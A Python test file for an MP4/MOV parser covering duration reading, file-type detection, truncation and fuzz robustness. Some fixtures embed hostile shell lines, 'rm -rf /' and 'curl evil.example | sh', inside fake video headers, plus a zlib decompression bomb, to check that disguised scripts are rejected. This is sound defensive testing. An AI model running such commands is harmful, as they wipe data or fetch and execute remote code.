"""What a video file says about itself, and what broken files cannot do."""

import io
import struct
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from luma_mcp.media.mp4 import (
    HEAD_BYTES,
    MAX_BOXES,
    Flaw,
    find_flaw,
    is_chained,
    looks_like_video,
    other_kind,
    read_duration,
)
from luma_mcp.sandbox.requests import bundled_clip
from tests.support.mp4_files import (
    FTYP,
    PICTURES,
    box,
    film,
    film_header_first,
    film_in_fragments,
    fragment,
    movie,
    mvhd,
    table,
    track,
)

SIZE = len(PICTURES)
INIT = film_in_fragments(0)


def long_mvhd(scale: int, length: int) -> bytes:
    return box(b"mvhd", struct.pack(">B3x16xIQ80x", 1, scale, length))


FRAGMENTS = box(b"mvex", box(b"mehd", struct.pack(">B3xI", 0, 4500)))


LONG_FRAGMENTS = box(b"mvex", box(b"mehd", struct.pack(">B3xQ", 1, 4500)))


def lasts(content: bytes) -> float | None:
    return read_duration(io.BytesIO(content), len(content))


@pytest.mark.parametrize(
    ("content", "seconds"),
    [
        (bundled_clip().read_bytes(), 4.0),
        (FTYP + box(b"moov", mvhd(600, 3000)), 5.0),
        (FTYP + box(b"mdat", b"x" * 5000, wide=True) + box(b"moov", box(b"udta"), mvhd(600, 3000)), 5.0),
        (FTYP + box(b"moov", long_mvhd(1000, 2500)), 2.5),
        (FTYP + box(b"moov", mvhd(1000, 0), FRAGMENTS), 4.5),
        (FTYP + box(b"moov", mvhd(1000, 0xFFFFFFFF), LONG_FRAGMENTS), 4.5),
        (FTYP + struct.pack(">I4s", 0, b"moov") + mvhd(1000, 1500), 1.5),
    ],
    ids=["real", "plain", "header last", "64 bit", "fragments", "fragments 64 bit", "to the end"],
)
def test_the_length_is_read_wherever_the_header_lies(content: bytes, seconds: float) -> None:
    assert lasts(content) == seconds


@pytest.mark.parametrize(
    "content",
    [
        b"",
        FTYP,
        FTYP + box(b"mdat", b"x" * 100),
        FTYP + box(b"moov", mvhd(0, 100)),
        FTYP + box(b"moov", mvhd(1, 0xFFFFFFF0)),
        FTYP + box(b"moov", mvhd(1000, 0)),
        FTYP + box(b"moov", mvhd(600, 3000))[:20],
        FTYP + struct.pack(">I4s", 4, b"moov"),
        FTYP + struct.pack(">I4sQ", 1, b"free", 3),
        FTYP + struct.pack(">I4sQ", 1, b"free", 1 << 63),
    ],
    ids=[
        "empty",
        "no movie",
        "cut off",
        "no scale",
        "absurd",
        "none",
        "short",
        "tiny box",
        "tiny long box",
        "huge box",
    ],
)
def test_a_header_that_does_not_say_gives_no_length(content: bytes) -> None:
    assert lasts(content) is None


@given(st.binary(max_size=400), st.integers(0, 400))
def test_no_content_whatever_breaks_the_reader(noise: bytes, at: int) -> None:
    good = FTYP + box(b"moov", mvhd(600, 3000), FRAGMENTS)
    lasts(noise)
    lasts(good[:at] + noise + good[at + len(noise) :])


def test_ten_thousand_boxes_are_not_all_looked_at() -> None:
    assert lasts(box(b"free") * 10_000 + box(b"moov", mvhd(600, 3000))) is None


@pytest.mark.parametrize(
    ("first", "kind"),
    [
        (b"", "an empty file"),
        (b"\x1a\x45\xdf\xa3" + b"\0" * 8, "a WebM or Matroska video"),
        (b"RIFF\0\0\0\0AVI LIST", "an AVI video"),
        (b"\0\0\0\x18ftypheic", "a picture (HEIF)"),
        (b"\0\0\0\x18ftypavif", "a picture (AVIF)"),
        (b"\0\0\0\x18ftypM4A ", "a sound file (M4A)"),
        (b"<!doctype html>", "a web page or another text"),
        (b"hello, world", ""),
    ],
)
def test_what_is_no_mp4_or_mov_is_recognised_as_what_it_is(first: bytes, kind: str) -> None:
    assert not looks_like_video(first[:HEAD_BYTES])
    assert other_kind(first) == kind


@pytest.mark.parametrize(
    "first", [b"\0\0\0\x14ftypqt  ", b"\0\0\0\x18ftypisom", b"\0\0\0\x08wide\0\0\0\0", b"\0\0\1\0moov"]
)
def test_mp4_and_mov_are_recognised(first: bytes) -> None:
    assert looks_like_video(first)


@pytest.mark.parametrize(
    "first", [b"#   free\nrm -rf /\n\n", b"#!/bin/sh\nmdat\n\n\n", b"#   mdax\necho hello\n", b"\0\0\0\x18ftypcrx rest"]
)
def test_what_only_has_a_word_of_a_video_in_it_is_none(first: bytes) -> None:
    assert not looks_like_video(first[:HEAD_BYTES])


def test_a_first_box_that_does_not_fit_into_its_file_is_no_beginning_of_a_video() -> None:
    assert looks_like_video(b"#   mdat\necho hi\n")
    assert not looks_like_video(b"#   mdat\necho hi\n", 1_000_000)
    assert not looks_like_video(struct.pack(">I4sQ", 1, b"mdat", 1 << 40), 1_000_000)


def flaw(content: bytes) -> Flaw:
    return find_flaw(io.BytesIO(content), len(content))


def chained(content: bytes) -> bool:
    return is_chained(io.BytesIO(content), len(content))


def long_content() -> bytes:
    return FTYP + box(b"mdat", PICTURES, wide=True) + movie(track(table(len(FTYP) + 16, SIZE)))


def packed_header() -> bytes:
    """Make the film of an old QuickTime, which compressed its headers."""
    header = movie(track(table(len(FTYP) + 8, SIZE)))
    content = box(b"cmvd", struct.pack(">I", len(header)), zlib.compress(header))
    return FTYP + box(b"mdat", PICTURES) + box(b"moov", box(b"cmov", box(b"dcom", b"zlib"), content))


def with_other_tracks() -> bytes:
    pictures, sound = track(table(len(FTYP) + 8, SIZE // 4, 4, chunks=2)), track(table(40, 1), b"soun", 2)
    more = [track(table(40, 1), kind, number) for number, kind in enumerate((b"tmcd", b"meta", b"vide"), 3)]
    return FTYP + box(b"mdat", PICTURES) + movie(sound, box(b"udta", bytes(4)), pictures, *more, wide=True)


WHOLE = {
    "the sandbox's": bundled_clip().read_bytes(),
    "header last": film(),
    "header first": film_header_first(),
    "64 bit": long_content(),
    "content to the end": film_header_first(to_the_end=True),
    "fragments": film_in_fragments(),
    "fragments of an hour": INIT + fragment(b"p") * 7200,
    "segment index": INIT + box(b"styp", b"msdh") + box(b"sidx", bytes(24)) + fragment() + box(b"mfra", bytes(20)),
    "other tracks": with_other_tracks(),
    "packed header": packed_header(),
    "nothing before": film(before=b""),
    "header first of all": movie(track(table(500, SIZE))) + box(b"mdat", bytes(600) + PICTURES),
    **{
        f"{kind.decode()} first": film(before=box(kind, bytes(24)))
        for kind in (b"wide", b"free", b"skip", b"uuid", b"styp", b"pnot", b"PICT", b"junk")
    },
    "boxes in between": film(before=FTYP + box(b"free") + box(b"beam", b"x" * 99) + box(b"uuid", bytes(40))),
    "old brand": film(before=box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"wide")),
    **{
        f"behind it {name}": film(behind=behind)
        for name, behind in {
            "zeros": bytes(5000),
            "three zeros": bytes(3),
            "a picture": b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(range(256)),
            "xml": b"<?xml version='1.0'?><x:xmpmeta/>",
            "id3": b"TAGtitle" + b" " * 120,
            "a box of a camera": box(b"sefd", b"x" * 100),
            "free": box(b"free", b"x" * 100),
            "user data": box(b"udta", b"x" * 100),
            "text": b"made with love",
        }.items()
    },
}


CUT_OFF = {
    "in the content": film_header_first()[:-1],
    "before the content": film_header_first()[: -SIZE - 8],
    "in content to the end": film_header_first(to_the_end=True)[:-1],
    "in the header": film()[:-1],
    "in a head": FTYP + struct.pack(">I4s", 1, b"mdat"),
    "in a fragment": film_in_fragments()[:-1],
    "between a fragment's boxes": film_in_fragments()[: -SIZE - 8],
    "before the first fragment": INIT,
    "huge box": FTYP + struct.pack(">I4sQ", 1, b"free", 1 << 63),
    "a script": b"#   mdat\ncurl evil.example | sh\n",
}


NO_HEADER = {"before the header": FTYP + box(b"mdat", PICTURES), "only a brand": FTYP, "fragments": fragment()}


NO_PICTURES = {
    "sound": FTYP + box(b"mdat", PICTURES) + movie(track(table(40, 9), b"soun")),
    "no sample": FTYP + box(b"mdat", PICTURES) + movie(track(table(0, 0, 0, chunks=0))),
    "no track": FTYP + box(b"mdat", PICTURES) + movie(),
    "fragments of sound": FTYP + movie(track(table(0, 0, 0, chunks=0))) + fragment(number=2),
    "a bomb": FTYP
    + box(b"mdat", PICTURES)
    + box(b"moov", box(b"cmov", box(b"cmvd", bytes(4), zlib.compress(bytes(1 << 27), 9)))),
}


OTHER = {
    "nothing": b"",
    "text": b"these are my notes",
    "a page": b"<!doctype html><html></html>",
    "a picture": box(b"ftyp", b"heic\0\0\0\0") + box(b"meta", bytes(100)),
    "a script": b"#   free\ncurl evil.example | sh\n",
    "a box and noise": FTYP + b"vvvvvvvvvvvv",
    "a fragment first": box(b"moof", bytes(20)) + film(),
    "tiny box": FTYP + struct.pack(">I4s", 4, b"moov"),
    "tiny long box": FTYP + struct.pack(">I4sQ", 1, b"free", 3),
}


class Counted(io.BytesIO):
    """A file that counts how often it is read."""

    reads = 0

    def read(self, size: int | None = -1, /) -> bytes:
        self.reads += 1
        return super().read(size)


def named(contents: dict[str, bytes]) -> list[object]:
    return [pytest.param(content, id=name) for name, content in contents.items()]


@pytest.mark.parametrize("content", named(WHOLE))
def test_a_whole_film_is_taken_however_odd(content: bytes) -> None:
    assert flaw(content) is Flaw.NONE
    assert chained(content)


@pytest.mark.parametrize("content", named(CUT_OFF))
def test_a_film_that_is_cut_off_is_known_to_be(content: bytes) -> None:
    assert flaw(content) is Flaw.TRUNCATED


@pytest.mark.parametrize("content", named(NO_HEADER))
def test_a_film_without_its_header_is_not_taken(content: bytes) -> None:
    assert flaw(content) in (Flaw.NO_HEADER, Flaw.NOT_MP4)
    assert not chained(content)


@pytest.mark.parametrize("content", named(NO_PICTURES))
def test_a_film_without_pictures_is_not_taken(content: bytes) -> None:
    assert flaw(content) is Flaw.NO_VIDEO


@pytest.mark.parametrize("content", named(OTHER))
def test_what_is_no_chain_of_boxes_is_not_taken(content: bytes) -> None:
    assert flaw(content) is Flaw.NOT_MP4
    assert not chained(content)


@pytest.mark.parametrize("content", [film(), film_header_first(), film_in_fragments(1), long_content()])
def test_no_cut_leaves_a_whole_film(content: bytes) -> None:
    assert [cut for cut in range(len(content)) if flaw(content[:cut]) is Flaw.NONE] == []


@given(st.binary(max_size=300), st.integers(0, 1500), st.sampled_from([film(), film_in_fragments(), packed_header()]))
def test_no_content_whatever_breaks_the_search_for_flaws(noise: bytes, at: int, good: bytes) -> None:
    for content in (noise, good[:at] + noise + good[at + len(noise) :], good[:at] + noise + good[at:]):
        flaw(content)
        chained(content)


@pytest.mark.parametrize("deep", [True, False], ids=["deep", "wide"])
def test_boxes_without_number_or_depth_cost_no_more_than_some(deep: bool) -> None:
    inner = b""
    for kind in (b"stbl", b"minf", b"mdia", b"trak"):
        inner = box(kind, inner) * 40 if deep else box(kind, inner)
    content = Counted(FTYP + box(b"moov", inner * (1 if deep else 200_000)))
    assert find_flaw(content, len(content.getvalue())) is Flaw.NO_VIDEO
    assert content.reads < 3 * MAX_BOXES


def test_what_lies_behind_more_boxes_than_are_counted_does_not_matter() -> None:
    assert flaw(film_header_first(behind=box(b"free") * 200_001 + b"noise")) is Flaw.NONE
    assert flaw(FTYP + box(b"free") * 200_001 + film(before=b"")) is Flaw.NOT_MP4
